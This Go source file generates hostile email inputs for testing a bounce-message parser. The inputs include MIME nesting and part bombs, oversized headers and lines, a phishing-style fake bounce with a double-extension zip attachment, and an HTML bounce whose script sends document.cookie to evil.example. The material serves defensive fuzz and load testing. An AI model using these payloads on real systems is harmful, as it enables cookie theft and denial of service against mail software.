// Package hostile builds inputs that attack a bounce parser: deep MIME nesting,
// part bombs, huge encoded bodies, endless header lines, NUL bytes, bad
// charsets, HTML with script, a fake bounce with an executable inside a zip,
// a backscatter bounce, a notice of chained replies, one repeating a
// reply's heading, one repeating a Subject line, a text repeating a
// table's header and a header line of millions of columns. Tests, fuzz seeds and
// the load test use them, so the repository holds a small generator
// instead of large fixture files.
package hostile

import (
	"archive/zip"
	"bytes"
	"encoding/base64"
	"fmt"
	"strings"
)

// Input is one hostile input with a name for test output.
type Input struct {
	Name string
	Data []byte
}

// All returns every hostile input at a size that stresses a parser without
// making a test slow: each is at most a few megabytes.
func All() []Input {
	return []Input{
		{"deep-nesting", DeepNesting(5000)},
		{"part-bomb", PartBomb(100_000)},
		{"huge-base64", HugeBase64(6 << 20)},
		{"endless-header", EndlessHeader(4 << 20)},
		{"long-line", LongLine(8 << 20)},
		{"nul-bytes", NULBytes()},
		{"bad-charset", BadCharset()},
		{"html-script", HTMLWithScript()},
		{"fake-bounce-exe", FakeBounceZipExe()},
		{"backscatter", Backscatter()},
		{"nested-bomb", NestedBomb(2_000_000)},
		{"chained-replies", ChainedReplies(100, 1<<20)},
		{"repeated-heading", RepeatedHeading(1 << 20)},
		{"repeated-subject", RepeatedSubject(256 << 10)},
		{"repeated-table-header", RepeatedTableHeader(60, 8<<20)},
		{"comma-header", CommaHeader(8 << 20)},
	}
}

// CommaHeader is one line of size bytes that opens like a table's header
// ("email,event,") and goes on with millions of empty columns.
func CommaHeader(size int) []byte {
	return append([]byte("email,event,"), bytes.Repeat([]byte("a,"), size/2)...)
}

// RepeatedTableHeader is n lines that each look like the header of a
// pasted table of events ("email,event,reason"), then size bytes of rows
// quoted with "> " that record no outcome (opens): every header would
// read, and unquote, all the rows under it.
func RepeatedTableHeader(n, size int) []byte {
	var b bytes.Buffer
	for range n {
		b.WriteString("email,event,reason\n\n")
	}
	b.Write(bytes.Repeat([]byte("> x@example.com,open,\n"), size/22))
	return b.Bytes()
}

const dsnHeader = "From: MAILER-DAEMON@mx.example.net\r\nTo: owner@example.org\r\n" +
	"Subject: Undelivered Mail Returned to Sender\r\nMIME-Version: 1.0\r\n"

// DeepNesting is a multipart message nested levels deep, each level with its own boundary.
func DeepNesting(levels int) []byte {
	var b bytes.Buffer
	b.WriteString(dsnHeader)
	b.WriteString("Content-Type: multipart/mixed; boundary=\"b0\"\r\n\r\n")
	for i := 1; i < levels; i++ {
		fmt.Fprintf(&b, "--b%d\r\nContent-Type: multipart/mixed; boundary=\"b%d\"\r\n\r\n", i-1, i)
	}
	b.WriteString("--b" + fmt.Sprint(levels-1) + "\r\nContent-Type: text/plain\r\n\r\n550 5.1.1 User unknown\r\n")
	for i := levels - 1; i >= 0; i-- {
		fmt.Fprintf(&b, "--b%d--\r\n", i)
	}
	return b.Bytes()
}

// PartBomb is one multipart message with n tiny parts.
func PartBomb(n int) []byte {
	var b bytes.Buffer
	b.WriteString(dsnHeader)
	b.WriteString("Content-Type: multipart/mixed; boundary=\"x\"\r\n\r\n")
	for range n {
		b.WriteString("--x\r\n\r\na\r\n")
	}
	b.WriteString("--x--\r\n")
	return b.Bytes()
}

// HugeBase64 is a bounce whose attachment is size bytes of base64 text.
func HugeBase64(size int) []byte {
	var b bytes.Buffer
	b.WriteString(dsnHeader)
	b.WriteString("Content-Type: multipart/mixed; boundary=\"x\"\r\n\r\n--x\r\nContent-Type: text/plain\r\n\r\n")
	b.WriteString("550 5.1.1 <nobody@example.com>: Recipient address rejected: User unknown\r\n")
	b.WriteString("--x\r\nContent-Type: application/octet-stream; name=\"blob.bin\"\r\nContent-Transfer-Encoding: base64\r\n\r\n")
	line := base64.StdEncoding.EncodeToString(bytes.Repeat([]byte{0xA5, 0x5A, 0x00}, 19)) + "\r\n"
	for b.Len() < size {
		b.WriteString(line)
	}
	b.WriteString("--x--\r\n")
	return b.Bytes()
}

// EndlessHeader is a message whose Subject header folds on for size bytes.
func EndlessHeader(size int) []byte {
	var b bytes.Buffer
	b.WriteString("From: MAILER-DAEMON@mx.example.net\r\nSubject: Undelivered")
	for b.Len() < size {
		b.WriteString("\r\n continued")
	}
	b.WriteString("\r\n\r\n550 5.1.1 User unknown\r\n")
	return b.Bytes()
}

// LongLine is a single line of size bytes with no newline at all.
func LongLine(size int) []byte {
	return bytes.Repeat([]byte("550 5.1.1 "), size/10)
}

// ChainedReplies is a notice of n recipients, each with Exchange's chain
// of a verdict and a last reply ("550 5.4.300 Message expired -> 451
// ..."), all on one line, followed by size bytes of more arrows, each
// opening a reply.
func ChainedReplies(n, size int) []byte {
	var b bytes.Buffer
	b.WriteString(dsnHeader + "\r\n")
	for i := range n {
		fmt.Fprintf(&b, "r%d@example.com: 550 5.4.300 Message expired -> 451 4.7.500 Server busy. ", i)
	}
	b.Write(bytes.Repeat([]byte("a -> 550 x "), size/11))
	return b.Bytes()
}

// RepeatedHeading is Gmail's notice with size bytes of the words that
// head its server's reply ("The response was:") repeated on one line,
// and the real heading and reply after them.
func RepeatedHeading(size int) []byte {
	var b bytes.Buffer
	b.WriteString("Address not found\n\nYour message wasn't delivered to ann@example.com because the address couldn't be found.\n\n")
	b.Write(bytes.Repeat([]byte("The response was: "), size/18))
	b.WriteString("\n\nThe response was:\n\n550 5.1.1 The email account that you tried to reach does not exist.\n")
	return b.Bytes()
}

// RepeatedSubject is Exchange's notice whose summary of the returned
// message repeats its Subject line for size bytes, above the recipient's
// refusal.
func RepeatedSubject(size int) []byte {
	var b bytes.Buffer
	b.WriteString(dsnHeader + "\r\nYour message did not reach some or all of the intended recipients.\r\n\r\n")
	b.Write(bytes.Repeat([]byte("  Subject: Re: Your mailbox is full\r\n"), size/36))
	b.WriteString("\r\nThe following recipient(s) could not be reached:\r\n\r\nann@example.com\r\n    550 5.1.1 User unknown\r\n")
	return b.Bytes()
}

// NULBytes is a plain-text bounce with NUL bytes sprinkled through it.
func NULBytes() []byte {
	return []byte("550 5.1.1\x00 <ann@example.com>:\x00 Recipient address rejected:\x00 User unknown\x00\r\n")
}

// BadCharset is a DSN whose text claims a charset that does not exist and
// carries bytes that are not valid in any.
func BadCharset() []byte {
	return []byte(dsnHeader + "Content-Type: text/plain; charset=\"x-no-such-charset\"\r\n" +
		"Content-Transfer-Encoding: 8bit\r\n\r\n" +
		"Delivery to the following recipient failed permanently:\r\n\r\n     ann@example.com\r\n\r\n" +
		"\xff\xfe\xc3\x28 550 5.1.1 The email account that you tried to reach does not exist.\r\n")
}

// HTMLWithScript is an HTML-only "bounce" carrying script, an iframe and
// event handlers; nothing of it may ever be rendered.
func HTMLWithScript() []byte {
	return []byte(dsnHeader + "Content-Type: text/html; charset=utf-8\r\n\r\n" +
		"<html><body onload=\"alert(1)\"><script>document.location='https://evil.example/'+document.cookie</script>" +
		"<p>Your message could not be delivered. <a href=\"javascript:alert(2)\">Click here</a> to see why.</p>" +
		"<iframe src=\"https://evil.example/\"></iframe><img src=x onerror=alert(3)>" +
		"<p>550 5.1.1 User unknown</p></body></html>\r\n")
}

// FakeBounceZipExe looks like a bounce but has no report: it asks the reader
// to open an attached zip that holds an executable with a double extension.
func FakeBounceZipExe() []byte {
	var z bytes.Buffer
	zw := zip.NewWriter(&z)
	w, _ := zw.Create("delivery-report.pdf.exe")
	w.Write([]byte("MZ\x90\x00 not really a program"))
	zw.Close()
	var b bytes.Buffer
	b.WriteString("From: Mail Delivery System <mailer-daemon@example.com>\r\nTo: owner@example.org\r\n" +
		"Subject: Delivery Status Notification (Failure)\r\nMIME-Version: 1.0\r\n" +
		"Content-Type: multipart/mixed; boundary=\"fake\"\r\n\r\n--fake\r\nContent-Type: text/plain\r\n\r\n" +
		"Dear user,\r\n\r\nYour message was not delivered due to a permanent error.\r\n" +
		"Please open the attached file to see the details and resend your message.\r\n\r\n" +
		"--fake\r\nContent-Type: application/zip; name=\"delivery-report.zip\"\r\n" +
		"Content-Disposition: attachment; filename=\"delivery-report.zip\"\r\nContent-Transfer-Encoding: base64\r\n\r\n")
	b.WriteString(wrap76(base64.StdEncoding.EncodeToString(z.Bytes())))
	b.WriteString("--fake--\r\n")
	return b.Bytes()
}

// Backscatter is a real-looking DSN for a message that the reader (owner of
// example.org) never sent: the returned message came from a spam host and
// only forged owner@example.org as its sender.
func Backscatter() []byte {
	return []byte(strings.ReplaceAll(`From: MAILER-DAEMON@mx.example.net (Mail Delivery System)
To: owner@example.org
Subject: Undelivered Mail Returned to Sender
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status; boundary="r1"

--r1
Content-Type: text/plain

This is the mail system at host mx.example.net.

I'm sorry to have to inform you that your message could not
be delivered to one or more recipients.

<nosuchuser@example.net>: host mx.example.net[192.0.2.10] said: 550 5.1.1
    <nosuchuser@example.net>: Recipient address rejected: User unknown

--r1
Content-Type: message/delivery-status

Reporting-MTA: dns; mx.example.net

Final-Recipient: rfc822; nosuchuser@example.net
Action: failed
Status: 5.1.1
Diagnostic-Code: smtp; 550 5.1.1 <nosuchuser@example.net>: Recipient address
    rejected: User unknown

--r1
Content-Type: text/rfc822-headers

Received: from cheap-pills.example.biz (unknown [198.51.100.77])
	by mx.example.net with ESMTP id 4QxyZ
Message-ID: <8f3a.1b2c@cheap-pills.example.biz>
From: owner@example.org
To: nosuchuser@example.net
Subject: Best prices on watches
Date: Mon, 23 Nov 2026 04:12:09 +0000

--r1--
`, "\n", "\r\n"))
}

// UnclosedNesting is levels of multipart nesting whose boundaries are never
// closed: enmime's cost doubles with each level, so a kilobyte of it can cost
// seconds unless the pre-decode limits stop it.
func UnclosedNesting(levels int) []byte {
	var b bytes.Buffer
	b.WriteString(dsnHeader)
	b.WriteString("Content-Type: multipart/mixed; boundary=\"b0\"\r\n\r\n")
	for i := 1; i < levels; i++ {
		fmt.Fprintf(&b, "--b%d\r\nContent-Type: multipart/mixed; boundary=\"b%d\"\r\n\r\n", i-1, i)
	}
	fmt.Fprintf(&b, "--b%d\r\nContent-Type: text/plain\r\n\r\n550 5.1.1 User unknown\r\n", levels-1)
	return b.Bytes()
}

// Shape of the nested bomb at full size: 20 forwarded messages, each carrying
// 12 forwarded messages, each a digest of 490 small messages. Each level stays
// under the pre-decode limits (500 parts, 12 multipart headers), and base64
// hides the inner levels from a scan of the raw bytes.
const (
	nestedOuter  = 20
	nestedMiddle = 12
	nestedInner  = 490
)

// NestedBomb is a message whose cost grows with what it decodes to, not with
// its size: 20 base64 message/rfc822 parts, each a message of 12 base64
// message/rfc822 parts, each a digest of small messages. None of them is a
// bounce, so an engine that reads forwarded messages until one explains
// itself reads every one. At size 9.9 MB each digest holds about 490
// messages, 117,600 in all; a smaller size keeps the 20 x 12 frame with fewer
// messages per digest (at least one), so that NestedBomb(250_000) is the same
// attack under the large-input threshold.
func NestedBomb(size int) []byte {
	// The size grows almost linearly with the digest's length; the numbers
	// in it grow longer, so one correction lands within a fraction of a percent.
	one := len(nested(nestedOuter, nestedMiddle, 1))
	if size <= one {
		return nested(nestedOuter, nestedMiddle, 1)
	}
	n := 1 + (size-one)/max(1, len(nested(nestedOuter, nestedMiddle, 2))-one)
	n = 1 + (size-one)*(n-1)/max(1, len(nested(nestedOuter, nestedMiddle, n))-one)
	return nested(nestedOuter, nestedMiddle, max(1, n))
}

// nested builds outer forwarded messages of middle forwarded messages of
// digests of inner small messages.
func nested(outer, middle, inner int) []byte {
	var digest bytes.Buffer
	digest.WriteString("Subject: Undelivered\r\nMIME-Version: 1.0\r\nContent-Type: multipart/digest; boundary=\"d\"\r\n\r\n")
	for i := range inner {
		fmt.Fprintf(&digest, "--d\r\n\r\nTo: u%d@x.example\r\n\r\nsee you later!\r\n", i)
	}
	digest.WriteString("--d--\r\n")
	level := func(subject, boundary string, parts int, part []byte) []byte {
		var b bytes.Buffer
		fmt.Fprintf(&b, "Subject: %s\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=%q\r\n\r\n", subject, boundary)
		enc := wrap76(base64.StdEncoding.EncodeToString(part))
		for range parts {
			fmt.Fprintf(&b, "--%s\r\nContent-Type: message/rfc822\r\nContent-Transfer-Encoding: base64\r\n\r\n", boundary)
			b.WriteString(enc)
		}
		fmt.Fprintf(&b, "--%s--\r\n", boundary)
		return b.Bytes()
	}
	mid := level("Fwd: Undelivered", "m", middle, digest.Bytes())
	return append([]byte("From: MAILER-DAEMON@mx.example.net\r\nTo: owner@example.org\r\n"), level("Fwd: Fwd: Undelivered", "o", outer, mid)...)
}

// wrap76 cuts base64 text into lines of 76 characters, as mail software does.
func wrap76(enc string) string {
	var b strings.Builder
	for len(enc) > 76 {
		b.WriteString(enc[:76] + "\r\n")
		enc = enc[76:]
	}
	b.WriteString(enc + "\r\n")
	return b.String()
}
